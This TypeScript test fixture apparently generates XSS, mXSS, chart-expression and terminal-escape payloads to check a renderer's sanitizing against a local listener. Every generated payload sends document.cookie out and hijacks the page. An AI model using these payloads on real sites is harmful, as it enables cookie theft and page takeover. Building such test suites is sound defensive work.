/** Markup that tries to run, to be fetched or to leave, in every way that we know of. Each carries its own number. */
export interface Listener {
  /** `http://127.0.0.1:port`; the same port takes datagrams. */
  origin: string;
  port: number;
}

/** A script that takes whatever it can get, and leaves a mark (`ran`) in the realm in which it ran. */
function attack({ origin }: Listener, number: number): string {
  return [
    `self.ran=(self.ran||[]).concat(${number})`,
    `top.owned=${number}`,
    `parent.document.title='owned'`,
    `parent.localStorage.owned=${number}`,
    `fetch('${origin}/cookie?'+document.cookie)`,
    `fetch('${origin}/fetch${number}').catch(function(){})`,
    `new Image().src='${origin}/image${number}'`,
    `top.location='${origin}/top${number}'`,
    `window.open('${origin}/open${number}')`,
  ]
    .map((step) => `try{${step}}catch(e){}`)
    .join(';');
}

/** Sends a datagram to the listener where there is WebRTC. */
function callByWebRtc({ port }: Listener): string {
  return `var peer=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${port}'}]});peer.createDataChannel('x');peer.createOffer().then(function(offer){peer.setLocalDescription(offer)})`;
}

const quoted = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
const script = (code: string) => `<script>${code}</script>`;
/** A JavaScript literal that can stand in a script element. */
const literal = (value: unknown) => JSON.stringify(value).replaceAll('<', '\\u003c');

const aroundScripts = [
  'SCRIPT',
  '<SCRIPT>CODE</SCRIPT>',
  '<script type=module>CODE</script>',
  '<script type="text/javascript" defer>CODE</script>',
  '<scr<script>ipt>CODE</script>',
  '<svg>SCRIPT</svg>',
  '<math>SCRIPT</math>',
  '<svg><foreignObject>SCRIPT</foreignObject></svg>',
  '<svg><desc>SCRIPT</desc></svg>',
  '<svg><style>SCRIPT</style></svg>',
  '<math><mtext>SCRIPT</mtext></math>',
  '<math><annotation-xml encoding="text/html">SCRIPT</annotation-xml></math>',
  '<textarea></textarea>SCRIPT',
  '<title></title>SCRIPT',
  '<xmp></xmp>SCRIPT',
  '<style></style>SCRIPT',
  '<noembed></noembed>SCRIPT',
  '<noframes></noframes>SCRIPT',
  '<template>SCRIPT</template>',
  '<div><template shadowrootmode=open>SCRIPT</template></div>',
  '<!-->SCRIPT',
  '<!-- --!>SCRIPT',
  '<![CDATA[>SCRIPT]]>',
  '<?xml ?>SCRIPT',
  '<table><tr>SCRIPT</tr></table>',
  '<select><option>SCRIPT</option></select>',
  '# title\n\n<div markdown=1>\n\nSCRIPT\n\n</div>',
  '`code` SCRIPT **bold**',
  '```\n</code></pre>SCRIPT\n```',
  '| a |\n|-|\n| SCRIPT |',
];

const selfFiring = [
  '<img src=x onerror=HANDLER>',
  '<image src=x onerror=HANDLER>',
  '<svg onload=HANDLER>',
  '<svg><animate onbegin=HANDLER attributeName=x dur=1s>',
  '<svg><set onbegin=HANDLER attributeName=x dur=1s>',
  '<svg><image href=x onerror=HANDLER>',
  '<body onload=HANDLER>',
  '<body onpageshow=HANDLER>',
  '<input autofocus onfocus=HANDLER>',
  '<select autofocus onfocus=HANDLER></select>',
  '<details open ontoggle=HANDLER>',
  '<video><source onerror=HANDLER></video>',
  '<audio src=x onerror=HANDLER></audio>',
  '<style onload=HANDLER></style>',
  '<link rel=stylesheet href=x onerror=HANDLER>',
  '<iframe onload=HANDLER></iframe>',
  '<object data=x onerror=HANDLER></object>',
  '<embed src=x onerror=HANDLER>',
  '<marquee onstart=HANDLER>x</marquee>',
  '<p style="animation:none" onanimationstart=HANDLER>x</p>',
  '<x-y contenteditable tabindex=0 autofocus onfocus=HANDLER>x</x-y>',
  '<script src=x onerror=HANDLER></script>',
];

const quotes = ["'CODE'", '"CODE"', '\n"CODE"', '"CODE"/x="', '"&#32;CODE"'];

const schemes = [
  'javascript:CODE',
  'JaVaScRiPt:CODE',
  'java\tscript:CODE',
  'java&#10;script:CODE',
  '&#106;avascript:CODE',
  'javascript&colon;CODE',
  '&#1;javascript:CODE',
  'vbscript:CODE',
  'data:text/html,SCRIPT',
  'data:image/svg+xml,SCRIPT',
];

const carriers = [
  '<a href="URL">x</a>',
  '<svg><a xlink:href="URL"><text>x</text></a></svg>',
  '<math><maction href="URL">x</maction></math>',
  '<form action="URL"><button>x</button></form>',
  '<iframe src="URL"></iframe>',
  '<object data="URL"></object>',
  '<embed src="URL">',
  '<svg><use href="URL"/></svg>',
  '<svg><a><animate attributeName=href values="URL"/></a></svg>',
  '[x](URL)',
  '![x](URL)',
  '<URL>',
  '[x]: URL\n\n[x]',
];

const fetching = [
  '<img src=AT>',
  '<img srcset="AT 1x">',
  '<picture><source srcset=AT><img></picture>',
  '<video src=AT poster=AT></video>',
  '<audio src=AT></audio>',
  '<video><track default src=AT></video>',
  '<input type=image src=AT>',
  '<table background=AT></table>',
  '<iframe src=AT></iframe>',
  '<object data=AT></object>',
  '<embed src=AT>',
  '<svg><image href=AT /><use href="AT#x"/><feImage href=AT /></svg>',
  '<svg><rect fill="url(AT#x)" filter="url(AT#x)"/></svg>',
  '<script src=AT></script>',
  '<script type=importmap>{"imports":{"evil":"AT"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["AT"],"eagerness":"immediate"}]}</script>',
  ...[
    'stylesheet',
    'prefetch',
    'preload" as="image',
    'modulepreload',
    'preconnect',
    'dns-prefetch',
    'prerender',
    'icon',
    'manifest',
    'import',
  ].map((rel) => `<link rel="${rel}" href="AT">`),
  '<base href="AT/"><img src=relative>',
  ...[
    'background:url(AT)',
    'list-style:url(AT)',
    'cursor:url(AT),auto',
    'border-image:url(AT)',
    'mask:url(AT)',
    'shape-outside:url(AT)',
    'content:url(AT)',
    'background:image-set("AT" 1x)',
  ].map((style) => `<p style='${style};display:list-item'>x</p>`),
  '<style>@import "AT";</style>',
  '<style>@font-face{font-family:evil;src:url(AT)} p{font-family:evil}</style><p>x</p>',
  '<style>p::before{content:url(AT)}</style><p>x</p>',
  '![x](AT)',
  '$\\includegraphics{AT}$ $\\href{AT}{x}$ $\\url{javascript:alert(1)}$ $\\htmlStyle{background:url(AT)}{x}$',
  script("fetch('AT',{mode:'no-cors',keepalive:true})"),
  script("navigator.sendBeacon('AT')"),
  script("new WebSocket('AT'.replace('http','ws'))"),
  script("new EventSource('AT')"),
  script("import(/**/'AT')"),
  script("new Worker(URL.createObjectURL(new Blob([\"fetch('AT');importScripts('AT')\"])))"),
  script('new Worker("data:text/javascript,fetch(\'AT\')")'),
  script("new SharedWorker('AT')"),
  script("navigator.serviceWorker.register('AT')"),
  script("var x=new XMLHttpRequest();x.open('GET','AT');x.send()"),
  script("new FontFace('evil','url(AT)').load()"),
  script("CSS.paintWorklet&&CSS.paintWorklet.addModule('AT')"),
  script("var f=document.createElement('form');f.action='AT';document.body.append(f);f.submit()"),
  script(
    "var a=document.createElement('a');a.href='#';a.ping='AT';document.body.append(a);a.click()",
  ),
];

/** Ways to a document within the frame's, in which WebRTC would be as the browser made it. `NESTED` is its markup. */
const nesting = [
  '<iframe srcdoc="NESTED"></iframe>',
  '<IFRAME SRCDOC="NESTED"></IFRAME>',
  '<div><template shadowrootmode=open><iframe srcdoc="NESTED"></iframe></template></div>',
  '<iframe src="javascript:WEBRTC"></iframe>',
  '<iframe src="data:text/html,NESTED"></iframe>',
  '<object data="data:text/html,NESTED"></object>',
  ...[
    'frame.srcdoc=NESTED',
    // Names that no markup spells.
    "frame['src'+'doc']=NESTED",
    "frame.setAttribute('src'+'doc',NESTED)",
    "frame.setAttributeNS(null,'src'+'doc',NESTED)",
    "var a=document.createAttribute('src'+'doc');a.value=NESTED;frame.setAttributeNode(a)",
    "var a=document.createAttribute('src'+'doc');frame.setAttributeNode(a);a.value=NESTED",
    "var a=document.createAttribute('src'+'doc');frame.setAttributeNode(a);a.nodeValue=NESTED",
    "var a=document.createAttribute('src'+'doc');frame.setAttributeNode(a);a.textContent=NESTED",
    "var p=document.createElement('p');p.setAttribute('src'+'doc',NESTED);var a=p.attributes[0];p.removeAttributeNode(a);frame.attributes.setNamedItem(a)",
    "frame.setAttribute('src'+'doc','');frame.toggleAttribute('x');frame.attributes[0].value=NESTED",
    "frame.setAttribute('srcdoc',NESTED)",
    "frame.setAttributeNS(null,'srcdoc',NESTED)",
    "var a=document.createAttribute('srcdoc');a.value=NESTED;frame.setAttributeNode(a)",
    "var a=document.createAttribute('srcdoc');frame.setAttributeNode(a);a.value=NESTED",
    "var p=document.createElement('p');p.setAttribute('srcdoc',NESTED);var a=p.attributes[0];p.removeAttributeNode(a);frame.attributes.setNamedItem(a)",
    'frame.src=URL.createObjectURL(new Blob([NESTED],{type:"text/html"}))',
    "var p=document.createElement('p');p.innerHTML='<iframe src'+'doc=\"'+NESTED.replace(/\"/g,'&quot;')+'\">';frame=p.firstChild",
    "var t=document.createElement('template');t.innerHTML='<iframe src'+'doc=\"'+NESTED.replace(/\"/g,'&quot;')+'\">';frame=t.content.firstChild",
    "var d=document.implementation.createHTMLDocument('');d.body.innerHTML='<iframe src'+'doc=\"'+NESTED.replace(/\"/g,'&quot;')+'\">';frame=d.body.firstChild",
    "var d=document.implementation.createHTMLDocument('');d.open();d.write('<iframe src');d.write('doc=\"'+NESTED.replace(/\"/g,'&quot;')+'\">');frame=d.querySelector('iframe')",
    "frame=new DOMParser().parseFromString('<iframe src'+'doc=\"'+NESTED.replace(/\"/g,'&quot;')+'\">','text/html').querySelector('iframe')",
    "var d=new DOMParser().parseFromString('<!DOCTYPE r [<!ENTITY e \"<iframe xmlns=\\'http://www.w3.org/1999/xhtml\\' src&#100;oc=\\''+NESTED.replace(/&/g,'&#38;#38;').replace(/</g,'&#38;#60;').replace(/'/g,'&#38;#39;').replace(/\"/g,'&#34;')+'\\'/>\">]><r>&e;</r>','text/xml');frame=document.importNode(d.documentElement.firstChild,true)",
    'document.body.append(frame);new frame.contentWindow.RTCPeerConnection',
    "frame.setHTMLUnsafe&&frame.setHTMLUnsafe('');var p=document.createElement('p');p.setHTMLUnsafe('<iframe src'+'doc=\"'+NESTED.replace(/\"/g,'&quot;')+'\">');frame=p.firstChild",
    "var p=document.createElement('p');document.body.append(p);p.insertAdjacentHTML('afterend','<iframe src'+'doc=\"'+NESTED.replace(/\"/g,'&quot;')+'\">')",
    "var r=String.prototype.replace,e=RegExp.prototype.exec;String.prototype.replace=RegExp.prototype.exec=function(){return ''};frame.srcdoc=NESTED;String.prototype.replace=r;RegExp.prototype.exec=e",
    "trustedTypes.createPolicy('default',{createHTML:function(h){return h}});frame.srcdoc=NESTED",
    "frame.srcdoc=trustedTypes.createPolicy('mine',{createHTML:function(h){return h}}).createHTML(NESTED)",
  ].map((step) =>
    script(`var frame=document.createElement('iframe');${step};document.body.append(frame)`),
  ),
  script('WEBRTC'),
  script('webkitRTCPeerConnection;RTCPeerConnection=webkitRTCPeerConnection;WEBRTC'),
  script('delete self.RTCPeerConnection;WEBRTC'),
];

/** Markup that a sanitizer reads in one way and a browser in another. */
const mutating = [
  '<noscript><p title="</noscript>IMG">',
  '<svg></p><style><a id="</style>IMG">',
  '<math><mtext><table><mglyph><style><!--</style>IMG-->',
  '<form><math><mtext></form><form><mglyph><style></math>IMG',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style>IMG">',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="-->IMG">',
  '<a href="x`<x`>`IMG`">',
  '<listing>&lt;IMG&gt;</listing>',
  '<p id="&quot;&gt;IMG">',
  '<select><iframe><!--</iframe>IMG--></select>',
  '<template><s><template><s>IMG</s></template></s></template>',
  '<xmp><p title="</xmp>IMG">',
  '<![CDATA[<p title="]]>IMG">',
  '<img alt="``onerror=CODE src=x">',
  '<a id=config href=x></a><form id=document><input name=cookie></form>',
  '<iframe name=top></iframe><a id=__proto__ name=toString>x</a>',
];

export function hostileMarkup(listener: Listener): string[] {
  const templates = [
    ...aroundScripts,
    ...selfFiring.flatMap((tag) => quotes.map((quote) => tag.replace('HANDLER', () => quote))),
    ...schemes.flatMap((scheme) => carriers.map((carrier) => carrier.replace('URL', () => scheme))),
    ...fetching,
    ...nesting,
    ...mutating,
  ];
  return templates.map((template, number) => {
    const code = attack(listener, number);
    const nested = script(callByWebRtc(listener));
    const inAttribute = (text: string) => quoted(text).replaceAll("'", '&#39;');
    return template
      .replaceAll('IMG', () => `<img src=x onerror="${quoted(code)}">`)
      .replaceAll('SCRIPT', () =>
        template.includes('data:') ? inAttribute(encodeURI(script(code))) : script(code),
      )
      .replaceAll('CODE', () => (template.startsWith('<SCRIPT') ? code : codeIn(template, code)))
      .replaceAll('WEBRTC', () =>
        template.includes('="javascript:')
          ? inAttribute(callByWebRtc(listener))
          : callByWebRtc(listener),
      )
      .replaceAll('NESTED', () =>
        template.includes('="NESTED') || template.includes('data:text/html,NESTED')
          ? inAttribute(nested)
          : literal(nested),
      )
      .replaceAll('AT', () => `${listener.origin}/at${number}`);
  });
}

/** Code as it stands in a script, or in an attribute. */
function codeIn(template: string, code: string): string {
  return /<script[^>]*>CODE/i.test(template) ? code : quoted(code).replaceAll("'", '&#39;');
}

/** Markup that takes its page elsewhere: each needs a frame of its own. */
export function leavingMarkup({ origin }: Listener): string[] {
  return [
    script(`location='${origin}/location'`),
    `<meta http-equiv=refresh content="0;url=${origin}/refresh">`,
    `<a id=a href="${origin}/anchor">x</a>${script('a.click()')}`,
  ];
}

/**
 * An output that plays each payload in a place of its own, by two ways from text to markup. `#done` appears once 60 of
 * them ran there, handlers of errors among them: payloads that are dead everywhere would prove nothing. `MARKUP` stands for the list of payloads.
 */
export const player = `<div id=stage></div><script>
    for (const markup of MARKUP) {
      for (const show of [
        (place) => { const range = document.createRange(); range.selectNodeContents(place); place.append(range.createContextualFragment(markup)); },
        (place) => { place.innerHTML = markup; place.innerHTML = place.innerHTML; },
      ]) {
        const place = document.createElement('div');
        stage.append(place);
        try { show(place); } catch {}
      }
    }
    // Other schemes would take the page elsewhere.
    for (const link of document.querySelectorAll('#stage a')) {
      const address = link.getAttribute('href') || link.getAttribute('xlink:href') || '';
      if (/^javascript:/i.test(address.replace(/[\\u0000-\\u0020]/g, ''))) link.dispatchEvent(new MouseEvent('click'));
    }
    const look = () => {
      if (new Set(self.ran).size < 60) return requestAnimationFrame(look);
      const done = document.createElement('p');
      done.id = 'done';
      document.documentElement.append(done);
    };
    look();
  </script>`;

/** Expressions and addresses in specifications of charts. */
export function hostileCharts(listener: Listener): Record<string, unknown>[] {
  const at = `${listener.origin}/chart`;
  const code = attack(listener, -1);
  const expressions = [
    `event.view.eval(${JSON.stringify(code)})`,
    `[].constructor.constructor(${JSON.stringify(code)})()`,
    `(1).constructor.constructor(${JSON.stringify(code)})()`,
    `replace('x', 'x', constructor.constructor(${JSON.stringify(code)}))`,
    `{toString: warn.constructor(${JSON.stringify(code)})} + ''`,
    "scale('__proto__', 1)",
    'vlSelectionTuples([{datum: {}, valueOf: event.view.open}], {})',
  ];
  const vega = 'application/vnd.vega.v6+json';
  const plotly = 'application/vnd.plotly.v1+json';
  const text = (value: string) => ({
    width: 50,
    height: 20,
    marks: [{ type: 'text', encode: { enter: { text: { value: 'x' }, ...JSON.parse(value) } } }],
  });
  const label = `<a href="javascript:${quoted(code)}">x</a><img src=x onerror="${quoted(code)}"><svg onload="${quoted(code)}">`;
  return [
    ...expressions.map((update) => ({
      [vega]: {
        width: 50,
        height: 20,
        signals: [{ name: 's', init: '0', on: [{ events: 'timer{10}', update }] }],
      },
    })),
    { [vega]: { data: [{ name: 'd', url: `${at}/data.json` }] } },
    { [vega]: text(`{"href":{"value":"javascript:alert(1)"},"url":{"value":"${at}/href"}}`) },
    {
      [vega]: {
        usermeta: { embedOptions: { loader: { baseURL: at }, actions: true, ast: false } },
        marks: [{ type: 'image', encode: { enter: { url: { value: `${at}/image` } } } }],
      },
    },
    {
      [plotly]: {
        data: [
          { type: 'bar', x: [label], y: [1], name: label, text: [label], hovertemplate: label },
        ],
        layout: {
          title: { text: label },
          images: [{ source: `${at}/image`, x: 0, y: 0, sizex: 1, sizey: 1 }],
          annotations: [{ text: label, x: 0, y: 0 }],
          ['__proto__' as string]: { owned: true },
        },
        config: { plotlyServerURL: at, showSendToCloud: true, topojsonURL: at },
      },
    },
    {
      [plotly]: {
        data: [{ type: 'scattergeo', lon: [1], lat: [1] }],
        config: { topojsonURL: `${at}/` },
      },
    },
    { [plotly]: { data: 'x', layout: [label], config: null, frames: label } },
  ];
}

/** What terminals obey. */
export function hostileTerminal({ origin }: Listener): string {
  return [
    '\u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007',
    `\u001b]8;;${origin}/osc\u0007link\u001b]8;;\u0007`,
    '\u001b]0;owned title\u0007',
    '\u001b[2J\u001b[H\u001b[9999999999B\u001b[31;999999m',
    `\u001b]1337;File=inline=1;name=${origin}:AAAA\u0007`,
    '\u001b'.repeat(5_000),
    '\u202e\u2066reversed\u0000\u0008',
  ].join('\n');
}
